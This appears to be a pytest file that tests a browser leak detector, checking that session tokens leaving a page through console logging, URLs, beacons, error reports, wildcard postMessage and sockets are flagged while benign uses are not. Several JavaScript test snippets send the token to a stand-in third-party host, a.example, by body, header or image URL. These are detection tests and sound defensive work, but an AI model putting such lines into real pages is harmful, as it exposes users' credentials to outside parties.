"""Tokens that leave a page are found on every way out; what is no leak is let pass."""

import pytest

from fixtures.browser.disclosure import leaks_of
from fixtures.browser.standing_in import spoilt
from fixtures.forge import parse
from tests.browser.conftest import Visiting
from tests.browser.small_app import SmallApp, page
from tests.browser.test_tokens import JWT, OPAQUE

_WAYS_OUT = {
    "console": "console.info('got', token);",
    "object in the console": "console.log({ session: { auth: { token } } });",
    "error with its request": "console.error(Object.assign(new Error('x'), { config: { headers: { A: token } } }));",
    "headers in the console": "console.debug(new Headers({ Authorization: `Bearer ${token}` }));",
    "base64 in the console": "console.log(btoa(JSON.stringify({ token })));",
    "failed assertion": "console.assert(!token, { session: { token } });",
    "uncaught error": "setTimeout(() => { throw new Error(`bad token ${token}`); }, 0);",
    "unhandled rejection": "Promise.reject(new Error(token));",
    "query": "fetch(`/api/me?token=${token}`);",
    "image": "new Image().src = `/pixel.gif?t=${encodeURIComponent(token)}`;",
    "fragment": "location.hash = token;",
    "pushed address": "history.pushState(null, '', `?access_token=${token}`);",
    "third party, body": "fetch('https://a.example/', { method: 'POST', mode: 'no-cors', body: token });",
    "third party, header": "fetch('https://a.example/', { headers: { Authorization: `Bearer ${token}` } });",
    "third party, image": "new Image().src = `https://a.example/?t=${token}`;",
    "beacon": "navigator.sendBeacon('/api/me', token);",
    "beacon of bytes": "navigator.sendBeacon('/api/me', new Blob([JSON.stringify({ token })]));",
    "report to ourselves": "fetch('/client-errors', { method: 'POST', body: JSON.stringify({ token }) });",
    "report to the API": "fetch('/api/client-log', { method: 'POST', body: JSON.stringify({ token }) });",
    "report by GraphQL": "fetch('/api/graphql', { method: 'POST', body: JSON.stringify({ query:"
    " 'mutation ($text: String!) { reportError(text: $text) }', variables: { text: token } }) });",
    "message to anybody": "parent.postMessage({ token }, '*');",
    "socket": "new WebSocket(`ws://${location.host}/live?token=${token}`);",
}
_NO_LEAK = {
    "message to ourselves": "postMessage({ token }, location.origin);",
    "claims in the console": "console.log(token.split('.').slice(0, 2).join('.'));",
    "a cut token in the console": "console.log(`${token.slice(0, 12)}…`);",
    "an assertion that holds": "console.assert(token, { session: { token } });",
    "another word in the console": "console.log('token renewed', { at: Date.now() });",
    "a call of the API": "fetch('/api/me', { headers: { Authorization: `Bearer ${token}` } });",
    "a logout by GraphQL": "fetch('/api/graphql', { method: 'POST', body: JSON.stringify({ query:"
    " 'mutation ($token: String!) { logOut(token: $token) }', variables: { token } }) });",
    "a body for the API": "fetch('/api/me', { method: 'POST', body: token });",
    "channel to other tabs": "new BroadcastChannel('s').postMessage(token);",
    "a third party without it": "fetch('https://a.example/', { method: 'POST', mode: 'no-cors', body: 'visit' });",
}
_WHEN_SIGNED_IN = "globalThis.quirks = {{ signedIn(token) {{ {0} }} }};"


def _channels(visiting: Visiting, script: str) -> set[str]:
    with visiting(SmallApp(page(_WHEN_SIGNED_IN.format(script)))) as journeys:
        journeys.tour.require_signed_in()
        return {leak.channel for leak in leaks_of(journeys.tour.person)}


@pytest.mark.parametrize("script", _WAYS_OUT.values(), ids=_WAYS_OUT)
def test_a_token_is_found_on_its_way_out(visiting: Visiting, script: str) -> None:
    assert _channels(visiting, script)


@pytest.mark.parametrize("script", _NO_LEAK.values(), ids=_NO_LEAK)
def test_what_stays_with_the_application_is_no_leak(visiting: Visiting, script: str) -> None:
    assert _channels(visiting, script) == set()


def test_a_spoilt_token_is_whole_but_for_its_signature() -> None:
    parsed = parse(spoilt(JWT))
    assert parsed is not None
    assert JWT.rpartition(".")[0] == spoilt(JWT).rpartition(".")[0]
    for token in (JWT, OPAQUE, "A", "."):
        assert spoilt(token) != token
        assert len(spoilt(token)) == len(token) or token == "."
